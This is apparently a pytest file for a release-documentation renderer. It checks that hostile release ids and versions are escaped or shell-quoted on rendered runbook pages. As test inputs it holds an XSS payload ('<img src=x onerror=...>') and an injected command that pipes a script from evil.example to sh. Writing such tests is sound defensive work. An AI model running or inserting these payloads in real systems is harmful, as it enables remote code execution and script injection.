"""A release id is the pull request's text too: it may hold HTML or a newline, and where it appears on
another release's page it must show as text and keep the page's structure.

The example project's 2026-10 release supersedes 2026-07, whose runbook and rollback page then name it in
a danger box's title; before, that title was the one place an id went unescaped.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from gitrepo import copy_example, edit
from renderhelp import dom

from fes_docs.check import check
from fes_docs.render import render_pages

LATER = "releases/2026-10-phase-2-pdf-lifecycle.yaml"
EARLIER = "2026-07-phase-1-step-windows"


@pytest.mark.parametrize("hostile", ["<img src=x onerror=alert(document.domain)>", "2026-10-phase-2-pdf-lifecycle\n"])
def test_a_hostile_id_is_text_on_the_page_that_names_it(tmp_path: Path, hostile: str) -> None:
    root = copy_example(tmp_path / "p")
    edit(root / LATER, "id: 2026-10-phase-2-pdf-lifecycle\n", f"id: {hostile!r}\n".replace("'", '"'))
    result = check(root)
    assert [f for f in result.findings if f.rule == "FES010" and f.loc.file == LATER and f.blocking], (
        "the schema refuses the id (a final newline included)"
    )
    pages = render_pages(result)
    for page in (f"{EARLIER}/index.md", f"{EARLIER}/rollback.md"):
        text = pages[page]
        assert "<img" not in text, page
        box = [line for line in text.splitlines() if line.startswith('!!! danger "Superseded:')]
        assert len(box) == 1 and box[0].endswith('is the release in production now"'), (page, box)
        assert "Superseded:" in dom(text).text()


def test_a_last_known_good_is_one_shell_word_in_the_deploy_command(tmp_path: Path) -> None:
    """The policy's deploy template is trusted, the record's version is not: pasted at 2 a.m., the command
    must re-deploy a version, never run a second command. The schema refuses such a version too."""
    root = copy_example(tmp_path / "p")
    policy = root / "releases" / "policy.yaml"
    policy.write_text(
        policy.read_text(encoding="utf-8")
        + 'operations:\n  deploy: "helm upgrade fes charts/fes --set image.tag={version}"\n',
        encoding="utf-8",
    )
    record = "releases/2026-12-phase-3-question-bank.yaml"
    evil = "4.2.1 --dry-run; curl -s https://evil.example/x | sh; #"
    edit(root / record, "last_known_good: 4.2.1}", f'last_known_good: "{evil}"}}')
    result = check(root)
    assert [
        f for f in result.findings if f.rule == "FES010" and f.loc.file == record and "last_known_good" in f.message
    ]
    page = render_pages(result)["2026-12-phase-3-question-bank/rollback.md"]
    lines = [line for line in page.splitlines() if line.startswith("helm upgrade")]
    assert lines == [f"helm upgrade fes charts/fes --set image.tag='{evil}'"], lines
    assert shlex.split(lines[0])[-1] == f"image.tag={evil}"  # one word: the shell runs helm, and only helm
